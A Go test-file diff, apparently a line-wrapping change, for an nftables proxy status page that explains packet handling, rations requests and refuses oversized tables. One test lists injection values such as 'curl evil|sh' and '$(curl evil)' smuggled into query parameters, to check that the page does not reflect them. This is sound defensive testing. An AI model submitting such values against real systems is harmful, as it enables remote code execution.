@@ -20,7 +20,8 @@ import (
 func TestExplanation(t *testing.T) {
 	asked := ""
 	p := newPage(func(c *statuspage.Config) {
-		c.Explain = func(_ context.Context, from explain.Origin, to explain.Destination, objects *service.Snapshot) (explain.Explanation, error) {
+		c.Explain = func(_ context.Context, from explain.Origin, to explain.Destination,
+			objects *service.Snapshot) (explain.Explanation, error) {
 			asked = from.String() + ">" + to.String()
 			if objects.Services.Len() == 0 || to.To.Port() == 1 {
 				return explain.Explanation{}, errors.New("no answer: <bad>")
@@ -39,13 +40,16 @@ func TestExplanation(t *testing.T) {
 			}
 		}
 	}
-	if want := "Explain 10.96.0.7:80/tcp, Explain [fd00::7]:80/tcp, Explain 10.96.0.7:53/tcp, Explain [fd00::7]:53/tcp"; strings.Join(targets, ", ") != want {
+	if want := "Explain 10.96.0.7:80/tcp, Explain [fd00::7]:80/tcp, Explain 10.96.0.7:53/tcp, Explain " +
+		"[fd00::7]:53/tcp"; strings.Join(targets, ", ") != want {
 		t.Errorf("links %q, want %s", targets, want)
 	}
 	a := get(t, p, "/status?explain=10.96.0.7:80/tcp&from=node")
 	for _, want := range []string{
-		"What the rules do with a packet to 10.96.0.7:80/tcp", "endpoint: one of <2> endpoints.", "192.168.0.1 (node)", "a/serving:http",
-		"10.244.0.1:8080 50 % masqueraded by a rule by eth0 ready", "the client keeps 10.244.0.1:8080 for 60 s", "a cause", "a remedy", "a firewall", "a note", "assumed",
+		"What the rules do with a packet to 10.96.0.7:80/tcp", "endpoint: one of <2> endpoints.", "192.168.0.1 (node)",
+		"a/serving:http",
+		"10.244.0.1:8080 50 % masqueraded by a rule by eth0 ready", "the client keeps 10.244.0.1:8080 for 60 s", "a cause",
+		"a remedy", "a firewall", "a note", "assumed",
 		"prerouting, rule 2 goes to the chain", "jump somewhere 10.96.0.7 . tcp . 80", "Otherwise, with a chance of 12.5 %",
 		"nftproxy explain 10.96.0.7:80/tcp",
 	} {
@@ -60,7 +64,8 @@ func TestExplanation(t *testing.T) {
 	checkHeadings(t, a.doc)
 	checkIDs(t, a.doc)
 	checkTables(t, a.doc)
-	if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:1"); a.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(words(a.doc), "no answer: <bad>") {
+	if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:1"); a.StatusCode != http.StatusUnprocessableEntity ||
+		!strings.Contains(words(a.doc), "no answer: <bad>") {
 		t.Errorf("an error: %s %s", a.Status, words(a.doc))
 	}
 }
@@ -71,7 +76,8 @@ func TestForeignTextInLinks(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		calls := 0
 		p := newPage(func(c *statuspage.Config) {
-			c.Explain = func(_ context.Context, _ explain.Origin, to explain.Destination, _ *service.Snapshot) (explain.Explanation, error) {
+			c.Explain = func(_ context.Context, _ explain.Origin, to explain.Destination,
+				_ *service.Snapshot) (explain.Explanation, error) {
 				calls++
 				time.Sleep(time.Hour)
 				return explain.Explanation{}, errors.New("no answer to " + to.String())
@@ -79,8 +85,10 @@ func TestForeignTextInLinks(t *testing.T) {
 		})
 		s := statuspagetest.SyncOf(statuspagetest.Cluster().Snapshot())
 		links := []string{
-			"explain=10.96.0.1:80/tcp;curl%20evil|sh", "explain=10.96.0.1:80/tcp%3Bcurl%20evil|sh", "explain=fe80::1%25$(curl%20evil)/icmp", "explain=10.96.0.1:80/tcp%0Acurl%20evil",
-			"explain=10.96.0.1:80&from=10.0.0.1%3Bcurl%20evil", "explain=10.96.0.1:80&from=10.0.0.1@curl%20evil", "explain=curl%20evil",
+			"explain=10.96.0.1:80/tcp;curl%20evil|sh", "explain=10.96.0.1:80/tcp%3Bcurl%20evil|sh",
+			"explain=fe80::1%25$(curl%20evil)/icmp", "explain=10.96.0.1:80/tcp%0Acurl%20evil",
+			"explain=10.96.0.1:80&from=10.0.0.1%3Bcurl%20evil", "explain=10.96.0.1:80&from=10.0.0.1@curl%20evil",
+			"explain=curl%20evil",
 		}
 		check := func(name string) {
 			for _, link := range links {
@@ -98,7 +106,8 @@ func TestForeignTextInLinks(t *testing.T) {
 		}
 		p.Observe(s)
 		check("at rest")
-		if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80"); calls != 1 || a.StatusCode != http.StatusUnprocessableEntity {
+		if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80"); calls != 1 ||
+			a.StatusCode != http.StatusUnprocessableEntity {
 			t.Fatalf("%d calls, %s", calls, a.Status)
 		}
 		check("after the share is used up")
@@ -108,7 +117,9 @@ func TestForeignTextInLinks(t *testing.T) {
 		s.Applied = &nft.Program{IPv4: large, IPv6: large}
 		p.Observe(s)
 		check("with large tables")
-		if a := ask(t, p, http.MethodGet, "/status?explain=[::ffff:10.96.0.7]:80"); a.StatusCode != http.StatusServiceUnavailable || !strings.Contains(words(a.doc), "Run on the node: nftproxy explain 10.96.0.7:80/tcp") {
+		if a := ask(t, p, http.MethodGet,
+			"/status?explain=[::ffff:10.96.0.7]:80"); a.StatusCode != http.StatusServiceUnavailable ||
+			!strings.Contains(words(a.doc), "Run on the node: nftproxy explain 10.96.0.7:80/tcp") {
 			t.Errorf("the parsed form: %s %s", a.Status, words(a.doc))
 		}
 		if calls != 1 {
@@ -123,7 +134,8 @@ func TestExplanationsAreRationed(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		n := 0
 		p := newPage(func(c *statuspage.Config) {
-			c.Explain = func(context.Context, explain.Origin, explain.Destination, *service.Snapshot) (explain.Explanation, error) {
+			c.Explain = func(context.Context, explain.Origin, explain.Destination, *service.Snapshot) (explain.Explanation,
+				error) {
 				n++
 				time.Sleep(time.Second)
 				return statuspagetest.Explanation(), nil
@@ -136,7 +148,8 @@ func TestExplanationsAreRationed(t *testing.T) {
 			a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80")
 			if a.StatusCode == http.StatusTooManyRequests {
 				refused++
-				if a.Header.Get("Retry-After") == "" || !strings.Contains(words(a.doc), "or run on the node: nftproxy explain 10.96.0.7:80") {
+				if a.Header.Get("Retry-After") == "" || !strings.Contains(words(a.doc),
+					"or run on the node: nftproxy explain 10.96.0.7:80") {
 					t.Fatalf("the refusal says %s", words(a.doc))
 				}
 			}
@@ -151,7 +164,8 @@ func TestExplanationsAreRationed(t *testing.T) {
 		s.Applied = &nft.Program{IPv4: large, IPv6: large}
 		p.Observe(s)
 		before := n
-		if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80"); a.StatusCode != http.StatusServiceUnavailable || n != before || !strings.Contains(words(a.doc), "no more than 200,000") {
+		if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80"); a.StatusCode != http.StatusServiceUnavailable ||
+			n != before || !strings.Contains(words(a.doc), "no more than 200,000") {
 			t.Errorf("large tables: %s %s", a.Status, words(a.doc))
 		}
 	})
@@ -161,7 +175,8 @@ func TestExplanationsAreRationed(t *testing.T) {
 func TestExplanationsSpendTheBudget(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		p := newPage(func(c *statuspage.Config) {
-			c.Explain = func(context.Context, explain.Origin, explain.Destination, *service.Snapshot) (explain.Explanation, error) {
+			c.Explain = func(context.Context, explain.Origin, explain.Destination, *service.Snapshot) (explain.Explanation,
+				error) {
 				time.Sleep(time.Hour)
 				panic("a defect")
 			}
@@ -189,7 +204,8 @@ func TestExplanationsSpendTheBudget(t *testing.T) {
 		if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80"); a.StatusCode != http.StatusServiceUnavailable {
 			t.Errorf("large tables: %s", a.Status)
 		}
-		if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80"); a.StatusCode != http.StatusTooManyRequests || counted != 1 {
+		if a := ask(t, p, http.MethodGet, "/status?explain=10.96.0.7:80"); a.StatusCode != http.StatusTooManyRequests ||
+			counted != 1 {
 			t.Errorf("after large tables, counted %d times: %s", counted, a.Status)
 		}
 	})
@@ -207,6 +223,7 @@ func TestElementsAreCountedOnce(t *testing.T) {
 		if n := statuspage.Elements(p); n != 7 {
 			t.Errorf("%d elements", n)
 		}
-		table.Parts = table.Parts.Set("more", nft.NewPart(make([]nft.Element, 5), nil)) // no program changes: a second count would show it
+		// no program changes: a second count would show it
+		table.Parts = table.Parts.Set("more", nft.NewPart(make([]nft.Element, 5), nil))
 	}
 }
